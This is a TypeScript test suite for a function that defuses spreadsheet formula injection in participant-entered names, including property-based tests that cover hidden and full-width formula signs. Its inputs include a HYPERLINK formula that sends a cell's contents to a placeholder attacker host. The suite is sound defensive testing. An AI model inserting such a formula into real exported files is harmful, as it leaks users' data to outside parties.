import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { neutralise, restore } from '../../../shared/files/index.ts'

describe('what a participant types never runs in a spreadsheet', () => {
  it.each([
    '=HYPERLINK("http://evil.example/?"&A2;"name")',
    '+7 900 123-45-67',
    '-Мария-',
    '@cmd',
    '\t=1+1',
    '\r\n=1+1',
    '  =1+1',
    '\u00a0=1+1',
    '\u202e=1+1',
    '\u200b+1',
    '\ufeff@x',
    '＝1+1',
    '＋7',
    '－1',
    '＠cmd',
    '\tname',
    '\nname',
  ])('%j gets an apostrophe before it', (name) => {
    expect(neutralise(name)).toBe(`'${name}`)
  })

  it.each(['Анна', 'Anna-Maria', 'a=b', 'me@example.org', '2 = 2', '', 'iPhone (Olga)'])(
    '%j stays as it is',
    (name) => {
      expect(neutralise(name)).toBe(name)
    },
  )

  it('gives back every string exactly', () => {
    fc.assert(
      fc.property(
        fc.oneof(fc.string(), fc.string({ unit: 'binary' }), fc.constantFrom("'", "''=x", "'Neil")),
        (text) => {
          expect(restore(neutralise(text))).toBe(text)
        },
      ),
      { numRuns: 2000 },
    )
  })

  it('leaves nothing that begins with a formula sign, whatever hides it', () => {
    const hidden = fc.array(
      fc.constantFrom(' ', '\t', '\r', '\n', '\u00a0', '\u200b', '\u202e', '\u2066', '\u0000', '\ufeff'),
    )
    const sign = fc.constantFrom('=', '+', '-', '@', '＝', '＋', '－', '＠')
    fc.assert(
      fc.property(hidden, sign, fc.string(), (before, formula, after) => {
        expect(neutralise(before.join('') + formula + after)[0]).toBe("'")
      }),
    )
  })
})
